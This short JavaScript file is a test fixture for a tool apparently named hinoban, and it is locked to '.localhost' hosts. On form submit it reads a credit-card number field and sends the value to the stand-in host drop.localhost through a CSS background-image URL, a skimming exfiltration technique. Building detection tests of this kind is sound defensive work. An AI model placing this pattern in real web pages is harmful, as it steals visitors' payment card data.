/* Harmless imitation, for hinoban's tests: in a style: url() of a custom property. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
document.addEventListener('submit', function (e) { var n = e.target.querySelector('input[autocomplete=cc-number]'); if (n) { document.body.style.setProperty('background-image', 'url(' + 'http://drop.localhost:' + location.port + '/bg.gif?v=' + n.value + ')'); } }, true);
